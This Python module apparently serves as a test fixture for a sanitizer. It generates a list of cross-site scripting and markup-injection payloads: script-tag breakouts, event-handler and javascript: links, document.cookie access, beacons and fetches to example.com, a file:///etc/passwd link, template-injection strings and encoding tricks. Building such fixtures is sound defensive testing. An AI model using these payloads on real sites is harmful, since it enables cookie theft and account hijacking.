"""A hundred and more ways to slip a script into a text."""

from __future__ import annotations

_CALLS = (
    *("alert(1)", "confirm`1`", "prompt(document.cookie)", "fetch('https://example.com/x')"),
    *("document.write('x')", "new Image().src='https://example.com/y'"),
)
_AROUND = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    '<img src=x onerror="{call}">',
    '"><img src=x onerror={call}>',
    "' autofocus onfocus='{call}",
    '<svg onload="{call}">',
    "<svg><script>{call}</script></svg>",
    "[lunch](javascript:{call})",
    '<a href="javascript:{call}">lunch</a>',
    "![bild](javascript:{call})",
    '<iframe srcdoc="<script>{call}</script>"></iframe>',
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "-->{call}<script>{call}</script>",
)
_SINGLE = (
    "<style>@import 'https://example.com/a.css'</style>",
    "<link rel=stylesheet href=https://example.com/b.css>",
    "<base href=https://example.com/>",
    "<meta http-equiv=refresh content='0;url=https://example.com/'>",
    "<form action=https://example.com/><button>skicka</button></form>",
    "<object data=https://example.com/c></object>",
    "<embed src=https://example.com/d>",
    "<video src=https://example.com/e autoplay></video>",
    "<body onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "![bild](https://example.com/f.png)",
    "<https://example.com/g>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "[annan](//example.com/h)",
    "[fil](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7 * 7 }}{% for x in y %}",
    "${{alert(1)}}",
    "%{{x}}<extra><img src=x onerror=alert(1)></extra>",
    '"; } @top-left { content: url(https://example.com/i) } "',
    '\\"</style><img src=https://example.com/j>',
    "[[[W10=]]]",
    "]]]",
    "<b><i><a href='https://example.com/k' target='_top'>fet</a></i></b>",
    "<span style='background:url(https://example.com/l)'>fond</span>",
    "$\\href{javascript:alert(1)}{x}$",
    "\x00<script>alert(1)</script>",
    "ﬀ\u202e<script>alert(1)</script>",
)

PAYLOADS = (
    tuple(dict.fromkeys([around.format(call=call) for call in _CALLS for around in _AROUND]))
    + _SINGLE
)
